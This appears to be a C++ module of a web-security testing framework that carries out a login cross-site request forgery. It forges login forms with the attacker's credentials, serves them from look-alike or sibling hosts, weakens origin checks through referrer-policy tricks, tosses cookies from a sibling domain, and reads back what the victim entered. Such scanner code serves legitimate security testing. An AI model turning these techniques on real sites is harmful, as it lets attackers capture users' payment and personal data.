// login-csrf: signs the victim in as the attacker, by forms on hosts of the attacker's, whose names
// may look like the app's. What the victim then writes down, a card, an address, is in the
// attacker's account.
// https://cheatsheetseries.owasp.org/cheatsheets/Cross-Site_Request_Forgery_Prevention_Cheat_Sheet.html#possible-csrf-vulnerabilities-in-login-forms
#include "core/attack/every_agent.h"
#include "core/attack/lure.h"
#include "core/attack/options.h"
#include "core/attack/own_form.h"
#include "core/attack/request_writer.h"
#include "core/attack/session.h"

namespace parapet::attack {
namespace {

class LoginCsrf final : public Agent {
    void run(Target& target) override {
        Endpoint const* login = endpoint_option(target, option::kLogin, "login");
        std::vector<OwnHost*> hosts = foreign_hosts(target);
        if (OwnHost* sibling = sibling_host(target)) hosts.push_back(sibling);
        if (login == nullptr || target.victim() == nullptr || hosts.empty()) return;
        OwnForm const visitor = look_at_form(target, *login, As::Visitor);
        std::vector<http::QueryPair> fields = as_attacker(target, *login);
        std::vector<ForgedForm> forms;
        forms.push_back({.action = address_of(target, *login), .fields = fields});
        forms.push_back(json_as_text(address_of(target, *login), fields));
        if (!visitor.tokens.empty()) {
            for (http::QueryPair const& each : visitor.tokens) fields.push_back(each);
            forms.push_back({.action = address_of(target, *login), .fields = fields});
        }
        if (!target.option(option::kFirst).empty())
            victim_does(target, routines_option(target, option::kFirst));
        for (OwnHost* host : hosts) {
            Lure lure(target, *host);
            for (ForgedForm const& each : forms) lure.show(submitting(each));
            // No cookie has to go along: a check of where it comes from stands alone here.
            lure.show_at(target.surface().host + "/?https://" + target.surface().host + "/",
                         submitting(forms.back()), {{"referrer-policy", "unsafe-url"}});
        }
        // Origin is "null". Out of a frame it would be so, too, but no Lax cookie is kept there.
        Lure(target, *hosts.front())
            .show(submitting(forms.front()), {{"referrer-policy", "no-referrer"}});
        if (OwnHost* sibling = sibling_host(target); sibling != nullptr && !visitor.tokens.empty())
            Lure(target, *sibling).show(submitting(forms.back()), tossed(target, *login, visitor));
        harvest(target);
        target.note("The victim was sent through the login form with the attacker's account.");
    }

    static std::vector<http::QueryPair> as_attacker(Target const& target, Endpoint const& login) {
        std::vector<http::QueryPair> fields;
        for (std::size_t i = 0; i < login.parameters.size(); ++i) {
            std::string value = login.parameters[i].sample;
            if (i == username_parameter(login)) value = target.surface().attacker.username;
            if (i == password_parameter(login)) value = target.surface().attacker.password;
            if (!is_token_name(login.parameters[i].name))
                fields.push_back({login.parameters[i].name, std::move(value)});
        }
        return fields;
    }

    // A host beside the app's sets the cookies that go with the attacker's form.
    static http::HeaderList tossed(Target const& target, Endpoint const& login,
                                   OwnForm const& visitor) {
        http::HeaderList headers;
        for (http::QueryPair const& each : visitor.cookies)
            for (std::string const& path : {login.path, std::string("/")})
                headers.append("set-cookie", each.name + "=" + each.value +
                                                 "; Domain=" + target.surface().host +
                                                 "; Path=" + path + "; Secure");
        return headers;
    }

    // The victim goes on as ever, and the attacker looks into his own account.
    static void harvest(Target& target) {
        victim_does(target, routines_option(target, option::kDoes));
        target.forget_cookies();
        sign_in(target, target.surface().attacker);
        for (Endpoint const* each : private_endpoints(target))
            target.send(write_request(*each, samples(*each)));
    }
};

}  // namespace

std::unique_ptr<Agent> make_login_csrf() { return std::make_unique<LoginCsrf>(); }

}  // namespace parapet::attack
